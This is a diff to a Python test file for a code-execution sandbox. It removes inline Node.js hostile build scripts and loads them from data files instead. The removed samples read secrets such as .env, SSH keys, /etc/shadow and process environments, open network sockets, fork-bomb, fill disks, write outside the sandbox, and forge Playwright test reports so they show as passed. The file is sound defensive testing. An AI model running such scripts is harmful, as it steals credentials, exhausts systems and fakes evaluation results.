@@ -1,4 +1,4 @@
-"""Answers are run for real: in the sandbox, by Node, in Chromium. Hostile ones reach nothing that lasts.
+"""Answers are run for real: in the sandbox, by Node, in Chromium. Hostile ones reach nothing.
 
 The toolchain `tiny` has no packages: its build is a script that the answer itself brings, so an
 answer's code runs as freely as in any build configuration.
@@ -29,6 +29,7 @@ from tests.stages.lib.execution.conftest import bystanders
 
 pytestmark = pytest.mark.slow
 
+DATA = ROOT / "tests/data"
 SECRET = "sk-planted-0123456789"
 SPEC = """import { expect, test } from '@playwright/test';
 
@@ -159,84 +160,8 @@ def test_two_runs_from_nothing_give_the_same_bytes_and_the_third_runs_nothing(
     assert "1 items, 1 reused, 0 new" in last
 
 
-HOSTILE = {
-    "keys": """
-import { readFileSync, readdirSync } from 'node:fs';
-const seen = [JSON.stringify(process.env)];
-const places = ['@ROOT@/.env', '@ROOT@/../.env', '/root/.ssh/id_rsa', '/home', '/etc/shadow'];
-for (const pid of readdirSync('/proc').filter(Number)) {
-  places.push(`/proc/${pid}/environ`, `/proc/${pid}/root@ROOT@/.env`);
-}
-for (const place of places) {
-  try { seen.push(readFileSync(place, 'utf8')); } catch (error) { seen.push(error.code); }
-}
-console.log(seen.join('\\n'));
-process.exit(1);
-""",
-    "network": """
-import { connect } from 'node:net';
-for (const host of ['127.0.0.1', 'localhost', '8.8.8.8']) {
-  const socket = connect({ host, port: @PORT@ }, () => socket.end('stolen'));
-  socket.on('error', (error) => console.log(host, error.code));
-}
-process.exitCode = 1;
-""",
-    "forks": """
-import { spawn } from 'node:child_process';
-for (;;) {
-  try { spawn('sh', ['-c', 'sleep 4331 & sleep 4331']).on('error', () => {}); } catch {}
-  await new Promise((go) => setTimeout(go, 1));
-}
-""",
-    "disk": """
-import { appendFileSync, mkdirSync } from 'node:fs';
-mkdirSync('dist');
-for (const place of ['dist/index.html', '/tmp/full', '/dev/shm/full']) {
-  try { for (;;) appendFileSync(place, Buffer.alloc(1 << 24)); } catch (error) { console.log(place, error.code); }
-}
-process.exit(1);
-""",
-    "outside": """
-import { writeFileSync, unlinkSync } from 'node:fs';
-const places = ['@ROOT@', '/toolchain', '/deps', '/deps/node_modules', '/node', '/usr', '/etc', '/proc/sys/kernel'];
-for (const place of places) {
-  try { writeFileSync(`${place}/planted`, 'x'); console.log('WROTE', place); } catch (error) { console.log(error.code); }
-}
-try { unlinkSync('@ROOT@/params.yaml'); console.log('REMOVED'); } catch (error) { console.log(error.code); }
-process.exit(1);
-""",
-    "links": """
-import { mkdirSync, symlinkSync } from 'node:fs';
-mkdirSync('dist');
-symlinkSync('@ROOT@/.env', 'dist/index.html');
-symlinkSync('/', 'dist/root');
-""",
-    "gigabyte": """
-import { writeSync } from 'node:fs';
-const block = Buffer.alloc(1 << 20, 'x');
-for (let n = 0; n < 1024; n += 1) writeSync(1, block);
-process.exit(1);
-""",
-    "endless": "import { execSync } from 'node:child_process'; execSync('sleep 4332 & sleep 4332');",
-    "forged": """
-import { mkdirSync, writeFileSync } from 'node:fs';
-const specs = ['The heading says Door', 'A click opens the door'].map((title) => (
-  { title, tests: [{ results: [{ status: 'passed' }] }] }));
-const report = JSON.stringify({ suites: [{ specs }], errors: [] });
-mkdirSync('dist/results', { recursive: true });
-for (const place of ['.', 'dist', '/tmp']) {
-  for (const name of ['report.json', 'report-1.json', 'report-2.json', 'report-3.json', 'stopped.json']) {
-    writeFileSync(`${place}/${name}`, report);
-  }
-}
-writeFileSync('dist/index.html', `<h2>Nothing</h2><script>
-  for (const name of ['expect', 'test', '__playwright__']) globalThis[name] = () => globalThis;
-  fetch('/report-1.json', { method: 'PUT', body: '{}' });
-</script>`);
-""",
-    "scripts": "process.exit(1);",
-}
-TESTS = "import test from 'node:test'; test('fine', () => {});"
+HOSTILE = {path.stem: path.read_text() for path in sorted((DATA / "hostile_answers").glob("*.mjs"))}
+"""Build scripts of hostile answers."""
 
 
 def hostile(name: str, root: Path, port: int) -> dict[str, str]:
